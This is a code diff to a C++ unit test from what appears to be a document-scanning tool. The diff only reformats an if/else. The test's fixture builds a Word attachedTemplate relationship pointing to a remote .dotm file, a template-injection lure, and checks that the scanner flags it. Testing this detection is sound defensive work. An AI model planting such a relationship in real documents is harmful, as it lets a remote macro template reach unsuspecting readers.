@@ -84,8 +84,10 @@ TEST(OfficeOoxml, RemoteAttachedTemplateIsTemplateInjection) {
         R"(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
         R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate")"
         R"( Target="http://192.0.2.1/invoice.dotm" TargetMode="External"/></Relationships>)";
-    if (auto* r = find(m, "word/_rels/settings.xml.rels")) *r = rels;
-    else m.emplace_back("word/_rels/settings.xml.rels", rels);
+    if (auto* r = find(m, "word/_rels/settings.xml.rels"))
+        *r = rels;
+    else
+        m.emplace_back("word/_rels/settings.xml.rels", rels);
     const auto o = analyse_bytes("invoice.docx", zip(m));
     ASSERT_TRUE(o.recognised);
     EXPECT_TRUE(o.has("OFFICE_EXTERNAL_TEMPLATE")) << o.ids();
